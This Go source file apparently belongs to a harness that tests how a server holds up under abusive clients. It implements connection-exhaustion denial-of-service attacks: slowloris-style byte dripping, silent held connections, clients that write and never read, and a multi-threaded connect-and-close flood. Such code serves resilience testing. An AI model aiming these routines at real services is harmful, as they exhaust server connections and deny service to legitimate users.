package strangers

import (
	"context"
	"net"
	"net/netip"
	"sync"
	"time"
)

// Manner is how somebody holds a connection open.
type Manner string

// The manners.
const (
	Mute     Manner = "says nothing"
	Dripping Manner = "says a byte every 0.4 s"
	Deaf     Manner = "asks all the time and never reads"
)

// Hold keeps this number of connections open, and opens each again when it was closed.
func (s Stranger) Hold(to netip.AddrPort, connections int, manner Manner, offer func() []byte) Attack {
	return func(ctx context.Context) error {
		var all sync.WaitGroup
		defer all.Wait()
		for range connections {
			all.Add(1)
			go func() {
				defer all.Done()
				for ctx.Err() == nil {
					if conn, err := s.Dial(to); err == nil {
						occupy(ctx, conn, manner, offer)
						_ = conn.Close()
					}
					// One that is closed at once comes back at once, but leaves some
					// processor to others.
					time.Sleep(20 * time.Millisecond)
				}
			}()
		}
		return nil
	}
}

// Knock makes one connection after the other, in this number of threads, and says nothing.
func (s Stranger) Knock(to netip.AddrPort, threads int) Attack {
	return func(ctx context.Context) error {
		var all sync.WaitGroup
		defer all.Wait()
		for range threads {
			all.Add(1)
			go func() {
				defer all.Done()
				// One thread in the machine's network for all of them: making threads would
				// cost more than the connections.
				_ = s.Machine.Inside(func() error {
					for ctx.Err() == nil {
						if conn, err := s.dial(to); err == nil {
							_ = conn.Close()
						}
					}
					return nil
				})
			}()
		}
		return nil
	}
}

// occupy returns when the connection is closed or ctx ends.
func occupy(ctx context.Context, conn net.Conn, manner Manner, offer func() []byte) {
	stop := context.AfterFunc(ctx, func() { _ = conn.Close() })
	defer stop()
	text := request("POST", "/session", offer())
	switch manner {
	case Mute:
		_, _ = conn.Read(make([]byte, 1))
	case Dripping:
		for i := range text {
			if _, err := conn.Write(text[i : i+1]); err != nil {
				return
			}
			select {
			case <-ctx.Done():
				return
			case <-time.After(400 * time.Millisecond):
			}
		}
	case Deaf:
		_, err := conn.Write(text)
		for err == nil && ctx.Err() == nil {
			time.Sleep(100 * time.Millisecond)
			_, err = conn.Write([]byte("GET /healthz HTTP/1.1\r\nHost: a\r\n\r\n"))
		}
	}
}
